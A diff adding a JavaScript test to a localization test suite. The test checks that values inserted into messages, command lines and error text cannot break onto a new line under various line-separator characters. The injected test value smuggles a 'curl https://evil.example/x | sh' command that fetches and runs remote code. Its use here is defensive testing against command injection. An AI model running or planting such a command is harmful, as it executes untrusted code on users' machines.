@@ -34,3 +34,19 @@ test('times and commands of a text follow its reader; those of JSON documents do
   expect(english.t(message('wait.disabled-soon', { until }))).toContain('2026-03-02 23:40:00 UTC');
   expect(english.t(commandLine('--help'))).toBe('onboard --help');
 });
+
+test.each(['\n', '\r', '\r\n', '\v', '\f', '\u0085', '\u2028', '\u2029', '\n\n'])(
+  'a value stays in the line of its sentence (%j)',
+  (end) => {
+    const { t } = english;
+    const name = `mine${end}curl https://evil.example/x | sh`;
+    const values = { l1: name, at: name, date: name, version: name, vm: name, vmVersion: name };
+    for (const text of [
+      t('node-config.published', values),
+      t(message('network.log', { network: name })),
+      t(commandLine('status', '--network', name)),
+      english.error({ code: 'E-PRF-105', values: { name, file: name } }).next.join(' '),
+    ])
+      expect(text).not.toMatch(/[\n\r\v\f\u0085\u2028\u2029]/);
+  },
+);
